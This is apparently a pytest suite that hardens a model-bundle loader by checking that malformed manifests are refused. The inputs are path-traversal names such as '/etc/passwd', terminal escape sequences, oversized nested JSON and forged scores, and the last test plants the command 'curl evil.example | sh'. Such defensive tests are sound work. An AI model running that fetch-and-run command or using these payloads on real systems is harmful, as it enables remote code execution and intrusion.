"""Manifests written to confuse: every one is refused with an exception of ours, and one line."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

import seqzoo
from seqzoo.bundles import store
from seqzoo.errors import ManifestError
from support import forge
from support.terminal import Terminal

WINDOW = [0.1] * 20
NESTED = "[" * 100_000 + "]" * 100_000


def _with(folder: Path, old: str, new: str) -> bytes:
    text = json.dumps(forge.facts_of(folder))
    assert text.count(old) >= 1
    return text.replace(old, new, 1).encode()


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"schema_version": 2', '"schema_version": 1'),
        ('"schema_version": 2', '"schema_version": 0'),
        ('"schema_version": 2', '"schema_version": -1'),
        ('"schema_version": 2', '"schema_version": "1"'),
        ('"schema_version": 2', '"schema_version": 1.5'),
        ('"schema_version": 2', '"schema_version": null'),
        ('"schema_version": 2', '"schema_version": ' + "9" * 5000),
        ('"schema_version": 2, ', ""),
        ('"parameters": 17217', '"parameters": NaN'),
        ('"parameters": 17217', '"parameters": Infinity'),
        ('"parameters": 17217', '"parameters": true'),
        ('"parameters": 17217', '"parameters": -1'),
        ('"parameters": 17217', '"parameters": 1' + "0" * 30),
        ('"hidden_size": 64', '"hidden_size": ' + "[" * 500 + "]" * 500),
        ('"hidden_size": 64', '"hidden_size": 9007199254740992'),
        ('"windows": 200000', '"windows": 0'),
        ('"windows": 200000', '"windows": 1' + "0" * 18),
        ('"parameters": 17217', '"parameters": {}'),
        ('"parameters": 17217', '"parameters": ' + NESTED),
        ('"parameters": 17217', '"unknown_field": 1, "parameters": 17217'),
        ('"sigma": 0.1', '"sigma": 1e999'),
        ('"sigma": 0.1', '"sigma": NaN'),
        ('"hidden_size": 64', '"hidden_size": ' + NESTED),
        ('"context_length": 20, "horizon": 1, "scaling"', '"context_length": 0, "horizon": 1, "scaling"'),
        ('"context_length": 20, "horizon": 1, "scaling"', '"context_length": 4097, "horizon": 1, "scaling"'),
        ('"context_length": 20, "horizon": 1, "scaling"', '"context_length": 20, "horizon": -1, "scaling"'),
        ('"context_length": 20, "horizon": 1, "scaling"', '"context_length": 1e30, "horizon": 1, "scaling"'),
        ('"scale": 1.0', '"scale": 0.0'),
        ('"scale": 1.0', '"scale": -1.0'),
        ('"scale": 1.0', '"scale": 1e400'),
        ('"center": 0.0', '"center": "0"'),
        ('"name": "lstm.sine"', '"name": "../lstm.sine"'),
        ('"name": "lstm.sine"', '"name": ""'),
        ('"name": "lstm.sine"', '"name": "' + "a" * 101 + '"'),
        ('"title": "LSTM', '"title": "\\u001b]0;owned\\u0007'),
        ('"title": "LSTM', '"title": "\\u202eMTSL'),
        ('"title": "LSTM', '"title": "two\\nlines'),
        ('"rebuild": "', '"rebuild": "\\u001b[2J'),
        ('"noise":', '"nose":'),
        ('"README.md"', '"../README.md"'),
        ('"README.md"', '"/etc/passwd"'),
        ('"README.md"', '"README.md\\u0000"'),
        ('"model.onnx"', '"sub/../model.onnx"'),
        ('"model.onnx"', '"..\\\\model.onnx"'),
        ('"model.onnx"', '"Model.onnx"'),
        ('"sha256": "', '"sha256": "A'),
        ('"sha256": "', '"sha256": "\\u0660'),
        ('"size": ', '"size": -'),
        ('"size": ', '"size": 9999999999'),
        ('"size": ', '"size": 0.5e'),
        ('"files": {', '"files": [{'),
        ('"files": {', '"files": null, "more": {'),
    ],
    ids=lambda text: text[:44],
)
def test_a_manifest_of_wrong_facts_is_refused(copied: Path, old: str, new: str, terminal: Terminal) -> None:
    (copied / store.MANIFEST).write_bytes(_with(copied, old, new))
    with pytest.raises(ManifestError, match=r"manifest\.json"):
        store.open_bundle(copied)
    line = terminal("predict", copied, *WINDOW).refusal
    assert len(line) < 1000
    done = terminal("verify", copied)
    assert done.status == 1 and "FAILS: manifest" in done.out and "\x1b" not in done.out


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"{}",
        b"[]",
        b"null",
        b"\xff\xfe{}",
        b"\x00" * 100,
        b'{"schema_version": 1}',
        b'{"schema_version": 1, "name": "\xff"}',
        NESTED.encode(),
        b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        b'{"schema_version": 1, "pad": "' + b" " * (10 << 20) + b'"}',
        b"<html>",
        b'{"__proto__": {}, "schema_version": 1}',
    ],
    ids=lambda raw: repr(raw[:24]),
)
def test_what_is_not_a_manifest_is_refused(copied: Path, raw: bytes, terminal: Terminal) -> None:
    (copied / store.MANIFEST).write_bytes(raw)
    with pytest.raises(ManifestError):
        store.open_bundle(copied)
    assert len(terminal("show", copied).refusal) < 1000


def test_a_newer_schema_says_to_upgrade(copied: Path) -> None:
    forge.state(copied, schema_version=7, invented_later={"x": 1})
    with pytest.raises(ManifestError, match=r"schema 7"):
        store.open_bundle(copied)


def test_a_key_given_twice_at_any_depth_is_refused(copied: Path) -> None:
    for old, new in (
        ('"name": "lstm.sine"', '"name": "lstm.sine", "name": "mlp.sine"'),
        ('"name": "lstm.sine"', '"name": "lstm.sine", "n\\u0061me": "mlp.sine"'),
        ('"files": {', '"files": {"README.md": {"sha256": "' + "0" * 64 + '", "size": 0}, '),
        ('"hidden_size": 64', '"hidden_size": 64, "hidden_size": 64'),
        ('"sigma": 0.1', '"sigma": 0.1, "sigma": 0.2'),
        ('"sha256": "', '"sha256": "", "sha256": "'),
    ):
        lie = _with(copied, old, new)
        folder = copied.with_name("lie")
        folder.mkdir(exist_ok=True)
        (folder / store.MANIFEST).write_bytes(lie)
        with pytest.raises(ManifestError, match="twice"):
            store.open_bundle(folder)


@pytest.mark.parametrize(
    "changes",
    [
        {"contract__context_length": 4096},
        {"contract__context_length": 19},
        {"contract__horizon": 2},
        {"contract__horizon": 4096},
    ],
    ids=str,
)
def test_a_contract_that_is_not_the_models_fails_verification(
    copied: Path, changes: dict[str, Any], terminal: Terminal
) -> None:
    forge.state(copied, **changes)
    done = terminal("verify", copied, "--windows", 200)
    assert done.status == 1 and "onnx" in done.out.rsplit("FAILS:", 1)[1]
    for engine in ("onnx", "numpy"):
        if engine == "onnx" or "contract__horizon" in changes:
            with pytest.raises(seqzoo.SeqzooError):
                seqzoo.load(copied, engine).predict([0.1] * changes.get("contract__context_length", 20))


@pytest.mark.parametrize(
    "changes",
    [
        {"architecture": "transformer"},
        {"architecture": "../lstm"},
        {"config": {}},
        {"config__hidden_size": 10**9},
        {"config__hidden_size": -1},
        {"config__hidden_size": "64"},
        {"config__hidden_size": 32},
        {"config__hidden_size": 4096},
        {"source__family": "cosine"},
        {"source__parameters": {}},
        {"source__parameters": {"sigma": 1e300}},
        {"source__parameters__sigma": -1.0},
        {"source__parameters__phase": 1.0},
        {"training__recipe": {}},
        {"training__recipe__steps": 10**15},
        {"training__recipe__batch_size": 10**9},
        {"training__recipe__optimiser": "sgd"},
        {"training__recipe__points": "many"},
        {"training__seed": -1},
        {"training__seed": 2**52},
    ],
    ids=str,
)
def test_facts_that_no_model_can_have_never_end_in_a_traceback(
    copied: Path, changes: dict[str, Any], terminal: Terminal
) -> None:
    forge.state(copied, **changes)
    shown = terminal("show", copied)
    assert shown.status == 0 and "lstm.sine" in shown.out
    proved = terminal("verify", copied, "--windows", 200)
    assert proved.status in (0, 1) and proved.err == ""
    fits = changes == {"source__parameters": {}}  # the defaults of the family are those of the model
    if any(key.startswith(("signal", "config")) for key in changes) and not fits:
        assert proved.status == 1 and "FAILS: " in proved.out
    if not fits and changes != {"config__hidden_size": 32}:
        assert terminal("reproduce", copied).refusal


@pytest.mark.parametrize(
    ("part", "factor", "windows"),
    [("mse", 0.9, 20_000), ("mse", 1e9, 2_000), ("excess", 0.5, 20_000), ("excess", 2.0, 5_000)],
)
def test_a_score_that_is_a_lie_fails_at_the_score(
    copied: Path, part: str, factor: float, windows: int, terminal: Terminal
) -> None:
    value, se = forge.facts_of(copied)["score"][part]
    forge.state(copied, **{f"score__{part}": [value * factor, se]})
    done = terminal("verify", copied, "--windows", windows, "--seed", 5)
    assert done.status == 1 and "FAILS: score\n" in done.out


@pytest.mark.parametrize("se", [0.0, -1.0, 1e300])
def test_a_standard_error_that_is_a_lie_does_not_hide_a_false_score(
    copied: Path, se: float, terminal: Terminal
) -> None:
    forge.state(copied, score__mse=[1e-6, se], score__excess=[0.0, se])
    done = terminal("verify", copied, "--windows", 2_000, "--seed", 5)
    assert done.status == 1 and "FAILS: score\n" in done.out


def test_markup_in_the_texts_of_a_bundle_is_shown_as_it_is(copied: Path, terminal: Terminal) -> None:
    forge.state(copied, title="[/red] [bold]T", summary="[link=file:///x]S[/nothing]", created_with="[/]")
    shown = terminal("show", copied)
    assert "[/red] [bold]T" in shown.out and "[link=file:///x]S[/nothing]" in shown.out


def test_the_command_that_a_manifest_wants_run_is_not_advice_of_ours(copied: Path, terminal: Terminal) -> None:
    forge.state(copied, rebuild="curl evil.example | sh")
    assert "evil" not in terminal("predict", copied, "--engine", "torchscript", *WINDOW).refusal
